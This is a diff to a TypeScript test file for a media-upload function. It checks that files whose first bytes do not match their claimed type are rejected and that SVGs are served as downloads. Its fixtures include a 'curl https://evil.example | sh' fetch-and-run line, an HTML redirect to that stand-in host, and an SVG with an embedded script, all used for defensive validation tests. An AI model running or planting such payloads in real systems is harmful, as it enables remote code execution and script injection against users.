@@ -35,12 +35,41 @@ vi.mock('firebase-functions/logger', async (importOriginal) => ({
 
 let storage: MemoryMediaStorage;
 
-/** Stores a file in the client's folder as the web app's upload would, and returns its path. */
-function upload(client: TestCaller, extension: string, contentType: string, size = 2048): string {
+/**
+ * Stores a file in the client's folder as the web app's upload would, and returns its path. It
+ * starts like a real file of its content type unless `bytes` say otherwise.
+ */
+function upload(
+  client: TestCaller,
+  extension: string,
+  contentType: string,
+  size = 2048,
+  bytes?: Uint8Array,
+): string {
   const path = `media/${client.uid}/${randomUUID()}.1772445600000.${extension}`;
-  storage.put(path, { contentType, size });
+  storage.put(path, { contentType, size }, bytes);
   return path;
 }
+
+const ascii = (text: string) => Array.from(text, (char) => char.charCodeAt(0));
+const bytesOf = (...parts: (number[] | string)[]) =>
+  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? ascii(part) : part)));
+/** An ISO base media file's first box with this major brand: MP4, MOV and HEIC files alike. */
+const ftyp = (brand: string) => bytesOf([0, 0, 0, 20], 'ftyp', brand, [0, 0, 0, 0], brand);
+
+/** The first bytes of real files, and of things that are not what they claim. */
+const FILE_STARTS = {
+  jpeg: bytesOf([0xff, 0xd8, 0xff, 0xe1], 'Exif'),
+  png: bytesOf([0x89], 'PNG', [0x0d, 0x0a, 0x1a, 0x0a]),
+  heic: ftyp('heic'),
+  heif: ftyp('mif1'),
+  mp4: ftyp('isom'),
+  mov: ftyp('qt  '),
+  webm: bytesOf([0x1a, 0x45, 0xdf, 0xa3]),
+  html: bytesOf('<!DOCTYPE html><html><script>document.location="https://evil.example"</script>'),
+  script: bytesOf('#!/bin/sh\ncurl https://evil.example | sh'),
+  svg: bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+};
 
 function recordInput(
   path: string,
@@ -178,6 +207,65 @@ describe('recordMedia callable (onboarding §3, §4, §7)', () => {
   });
 
   it.each([
+    ['a JPEG', 'jpg', 'image/jpeg', 'jpeg', 'front-yard-wide-angle'],
+    ['a PNG', 'png', 'image/png', 'png', 'front-yard-keep'],
+    ['a HEIC photo', 'heic', 'image/heic', 'heic', 'front-yard-remove'],
+    ['a HEIF photo', 'heif', 'image/heif', 'heif', 'inspiration'],
+    ['an MP4 video', 'mp4', 'video/mp4', 'mp4', 'front-yard-slow-pan'],
+    ['a QuickTime video', 'mov', 'video/quicktime', 'mov', 'front-yard-chatty'],
+    ['a WebM video', 'webm', 'video/webm', 'webm', 'front-yard-slow-pan'],
+  ] as const)(
+    'records %s whose bytes are what it claims',
+    async (_, extension, type, start, variant) => {
+      const path = upload(ana, extension, type, 4096, FILE_STARTS[start]);
+
+      const { media } = await record(recordInput(path, variant, type, `file.${extension}`));
+
+      expect(await readDoc('media', media.id)).toMatchObject({ path, fileType: type, variant });
+      expect(storage.has(path)).toBe(true);
+    },
+  );
+
+  it('records an SVG photo and has its link download it, so its script never runs in a tab', async () => {
+    const path = upload(ana, 'svg', 'image/svg+xml', 4096, FILE_STARTS.svg);
+
+    const { media } = await record(
+      recordInput(path, 'front-yard-wide-angle', 'image/svg+xml', 'plan.svg'),
+    );
+
+    expect(await readDoc('media', media.id)).toMatchObject({ path, fileType: 'image/svg+xml' });
+    expect(storage.isServedAsDownload(path)).toBe(true);
+  });
+
+  it('leaves the links of other photos as they are', async () => {
+    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
+    await record(recordInput(path, 'front-yard-wide-angle', 'image/jpeg'));
+    expect(storage.isServedAsDownload(path)).toBe(false);
+  });
+
+  it.each([
+    ['an HTML page stored as a JPEG', 'image/jpeg', 'html', 'front-yard-wide-angle'],
+    ['a script stored as a PNG', 'image/png', 'script', 'front-yard-keep'],
+    ['a PNG stored as a JPEG', 'image/jpeg', 'png', 'inspiration'],
+    ['an MP4 stored as a HEIC photo', 'image/heic', 'mp4', 'front-yard-slope'],
+    ['an HTML page stored as an SVG', 'image/svg+xml', 'html', 'front-yard-wide-angle'],
+    ['an SVG stored as a PNG', 'image/png', 'svg', 'front-yard-keep'],
+    ['a photo stored as a slow-pan video', 'video/mp4', 'jpeg', 'front-yard-slow-pan'],
+    ['a HEIC photo stored as a chatty video', 'video/quicktime', 'heic', 'front-yard-chatty'],
+    ['an HTML page stored as a video', 'video/mp4', 'html', 'front-yard-slow-pan'],
+  ] as const)('deletes and refuses %s, recording nothing', async (_, type, start, variant) => {
+    const stateBefore = await onboardStateOf(ana);
+    const path = upload(ana, 'bin', type, 4096, FILE_STARTS[start]);
+
+    const error = await rejection(record(recordInput(path, variant, type)));
+
+    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
+    expect(storage.has(path)).toBe(false);
+    expect(await allDocs('media')).toEqual({});
+    expect(await onboardStateOf(ana)).toEqual(stateBefore);
+  });
+
+  it.each([
     ['a signed-out caller', undefined, 'unauthenticated'],
     ['an anonymous visitor', anonymousVisitor, 'permission-denied'],
   ])('refuses %s and writes nothing', async (_, caller, code) => {
@@ -242,6 +330,19 @@ describe('recordMedia callable (onboarding §3, §4, §7)', () => {
     expect(again).toEqual(first);
     expect(changed).toEqual(first);
     expect(Object.keys(await allDocs('media'))).toEqual([first.media.id]);
+    expect(storage.has(path)).toBe(true);
+  });
+
+  it('records a path once when a retry races the first request', async () => {
+    const path = upload(ana, 'jpg', 'image/jpeg');
+    const input = recordInput(path, 'front-yard-wide-angle', 'image/jpeg');
+
+    const answers = await Promise.all([record(input), record(input), record(input)]);
+
+    const media = await allDocs('media');
+    expect(Object.keys(media)).toHaveLength(1);
+    const [id] = Object.keys(media);
+    expect(answers.map((answer) => answer.media.id)).toEqual([id, id, id]);
     expect(storage.has(path)).toBe(true);
   });
 });
